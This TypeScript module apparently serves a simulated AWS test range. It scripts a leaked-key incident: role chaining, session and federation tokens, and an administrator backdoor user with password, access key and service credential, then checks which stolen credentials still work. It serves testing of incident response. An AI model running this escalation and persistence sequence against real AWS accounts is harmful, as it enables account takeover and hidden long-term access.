import {type Keys, keysOf, policy, trust} from '../range/harness.ts';
import type {Incident} from './account.ts';
import {works} from './probe.ts';

/** What an attacker holds: every credential by name. */
export type Loot = Readonly<Record<string, Keys>>;

/**
 * An application's user whose key leaks, and everything that an attacker makes of it: a session, a federation token, an
 * administrator's role, two roles that take each other, a user with a key, a password and a service credential, a role
 * of its own, taken with that key, and a console session (a federation token in the browser).
 */
export async function spread(incident: Incident): Promise<{readonly leaked: string; readonly loot: Loot}> {
	const {iam, range, take} = incident;
	const {accountId} = range.world;
	const key = await incident.user('app', 'PowerUserAccess');
	const root = `arn:aws:iam::${accountId}:root`;
	await incident.role('deploy', trust(root), 'AdministratorAccess');
	await incident.role('ring-a', trust(root), 'PowerUserAccess');
	await incident.role('ring-b', trust(root), 'PowerUserAccess');
	await iam.putUserPolicy({UserName: 'app', PolicyName: 'take', PolicyDocument: policy('Allow', ['sts:*'])});
	await settle(incident);

	const sts = incident.stsOf(key);
	const session = keysOf(await sts.getSessionToken({}));
	const federation = keysOf(
		await sts.getFederationToken({Name: 'aws-support', Policy: policy('Allow', '*')}),
	);
	const deploy = await take(key, 'deploy');
	const ringA = await take(session, 'ring-a');
	const ringB = await take(ringA, 'ring-b');
	const ringA2 = await take(ringB, 'ring-a');

	const attacker = incident.iamOf(deploy);
	const UserName = 'svc-agent';
	await attacker.createUser({UserName});
	await attacker.attachUserPolicy({UserName, PolicyArn: 'arn:aws:iam::aws:policy/AdministratorAccess'});
	await attacker.createLoginProfile({UserName, Password: `Fake-${Math.random()}-aA1!`});
	await attacker.createServiceSpecificCredential({UserName, ServiceName: 'bedrock.amazonaws.com'});
	const {AccessKey} = await attacker.createAccessKey({UserName});
	const backdoor = {
		accessKeyId: AccessKey?.AccessKeyId ?? '',
		secretAccessKey: AccessKey?.SecretAccessKey ?? '',
	};
	await settle(incident);
	await attacker.createRole({RoleName: 'edge-exec', AssumeRolePolicyDocument: trust(root)});
	await attacker.attachRolePolicy({
		RoleName: 'edge-exec',
		PolicyArn: 'arn:aws:iam::aws:policy/AdministratorAccess',
	});
	await settle(incident);
	const edge = await take(backdoor, 'edge-exec');
	const loot = {key, session, federation, deploy, ringA, ringB, ringA2, backdoor, edge};
	return {leaked: key.accessKeyId, loot};
}

/** Lets pass what IAM takes to obey. */
export function settle({range}: Incident): Promise<void> {
	const {gap} = range.world.iam.consistency;
	return new Promise(resolve => setTimeout(resolve, gap === 0 ? 0 : gap + 20));
}

/** The credentials with which AWS still carries something out, by name. */
export async function working(incident: Incident, loot: Loot): Promise<readonly string[]> {
	const tried = await Promise.all(
		Object.entries(loot).map(async ([name, keys]) => ((await works(incident, keys)) ? [name] : [])),
	);
	return tried.flat().sort();
}
